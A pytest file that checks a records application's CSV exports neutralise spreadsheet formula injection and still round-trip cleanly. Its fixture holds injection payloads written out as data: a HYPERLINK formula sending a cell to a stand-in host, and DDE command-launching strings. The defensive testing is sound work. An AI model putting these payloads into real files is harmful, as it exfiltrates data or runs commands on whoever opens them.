"""CSV exports never hand a spreadsheet a formula (issue 18 item 5), and read back as written."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select
from support import World, actor_of, token_client
from test_import_export import GOOD, write_csv
from typer.testing import CliRunner

from kalibar.config import get_settings
from kalibar.db.session import engine_for, unit_of_work
from kalibar.files.csvout import TRIGGERS, cell, guard, unguard
from kalibar.files.csvout import writer as csv_writer
from kalibar.matching.jobs import OUT_COLUMNS
from kalibar.matching.jobs import write_csv as write_matches
from kalibar.records.cli import app
from kalibar.records.fields import COLUMNS
from kalibar.records.io_import import import_records
from kalibar.records.models import FirearmRecord

HOSTILE = {
    "make": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "model": "=cmd|' /C calc'!A0",
    "calibre": "@SUM(1+1)*cmd|' /C calc'!A0",
    "serial_number": "+1+2",
    "case_reference": "-3+4",
    "other_markings": "'=already quoted by hand",
    "notes": "-3",
}


@pytest.fixture
def hostile(world: World, tmp_path: Path) -> World:
    # written as Kalibar writes CSV, so that the file holds exactly these values
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv_writer(fh)
        out.writerow(COLUMNS)
        out.writerow([{**GOOD, **HOSTILE}.get(c, "") for c in COLUMNS])
    with unit_of_work(world.engine) as s:
        import_records(s, actor=actor_of(world, "officer"), source=path, filename="in.csv")
    return world


def stored(world: World) -> dict[str, str]:
    with unit_of_work(world.engine) as s:
        record = s.execute(select(FirearmRecord)).scalar_one()
        return {c: getattr(record, c) for c in HOSTILE}


def exported_row(text: str) -> dict[str, str]:
    (row,) = list(csv.DictReader(io.StringIO(text)))
    return row


def assert_neutralised(row: dict[str, str]) -> None:
    assert row["make"] == "'" + HOSTILE["make"]
    assert row["model"] == "'=cmd|' /C calc'!A0"
    assert row["calibre"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["serial_number"] == "'+1+2"
    assert row["case_reference"] == "'-3+4"
    assert row["other_markings"] == "''=already quoted by hand"
    assert row["notes"] == "-3"  # a plain number is no formula and keeps its sign
    for value in row.values():
        assert not value.startswith(TRIGGERS) or value == "-3", value


def test_api_csv_export_neutralises_formulas(hostile: World) -> None:
    assert stored(hostile) == HOSTILE  # stored as typed
    r = token_client(hostile.engine, "officer").get("/api/v1/records/export?format=csv")
    assert r.status_code == 200
    assert_neutralised(exported_row(r.text))


@pytest.fixture
def cli_db(hostile: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    monkeypatch.setenv("KALIBAR_DATABASE_URL", hostile.engine.url.render_as_string(False))
    get_settings.cache_clear()
    engine_for.cache_clear()
    yield hostile
    get_settings.cache_clear()
    engine_for.cache_clear()


def test_cli_csv_export_neutralises_formulas_and_xlsx_keeps_text(
    cli_db: World, tmp_path: Path
) -> None:
    result = CliRunner().invoke(app, ["export", "--agency", "BA-UIO", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_neutralised(exported_row(result.stdout))
    out = tmp_path / "out.xlsx"
    result = CliRunner().invoke(
        app, ["export", "--agency", "BA-UIO", "--format", "xlsx", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    ws = load_workbook(out).worksheets[0]
    header = [c.value for c in ws[1]]
    cells = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert cells["make"].value == HOSTILE["make"] and cells["make"].data_type == "s"


def test_export_then_import_gives_the_same_values(hostile: World, tmp_path: Path) -> None:
    r = token_client(hostile.engine, "officer").get("/api/v1/records/export?format=csv")
    path = tmp_path / "again.csv"
    path.write_text(r.text, encoding="utf-8")
    with unit_of_work(hostile.engine) as s:
        report = import_records(
            s, actor=actor_of(hostile, "officer"), source=path, filename="again.csv"
        )
    assert (report.inserted, report.updated, report.rejected) == (0, 1, 0)
    assert stored(hostile) == HOSTILE


def test_a_quote_typed_before_a_formula_reads_as_a_spreadsheet_would(
    world: World, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "typed.csv", [{**GOOD, "make": "'=SUM(1)", "model": "'M57"}])
    with unit_of_work(world.engine) as s:
        import_records(s, actor=actor_of(world, "officer"), source=path, filename="typed.csv")
        record = s.execute(select(FirearmRecord)).scalar_one()
        assert (record.make, record.model) == ("=SUM(1)", "'M57")


def test_every_csv_writer_is_the_guarded_one() -> None:
    src = Path(__file__).parents[2] / "src" / "kalibar"
    offenders = [
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text)
        and p.parent.name != "files"
        and "demo" not in p.parts
        and p.name != "demo.py"
    ]
    assert offenders == []


def test_match_results_are_guarded() -> None:
    out = io.StringIO()
    row = dict.fromkeys(OUT_COLUMNS, "") | {"serial_number": "=1+1", "explanation": "@x"}
    write_matches(out, iter([row]))
    (written,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert (written["serial_number"], written["explanation"]) == ("'=1+1", "'@x")


@given(st.text(max_size=12))
def test_guard_round_trips_and_never_leaves_a_formula(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    bare = guarded.lstrip("'")
    assert guarded == text or (guarded.startswith("'") and bare.startswith(TRIGGERS))
    assert not guarded.startswith(TRIGGERS) or guarded.lstrip("+-").replace(".", "").isdigit()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+44 1", "'+44 1"),
        (None, ""),
        (12, 12),
        ("x=1", "x=1"),
    ],  # fmt: skip
)
def test_cell(value: object, written: object) -> None:
    assert cell(value) == written


def test_export_columns_unchanged() -> None:
    assert COLUMNS[0] == "record_id"  # the guarded writer writes the header as given
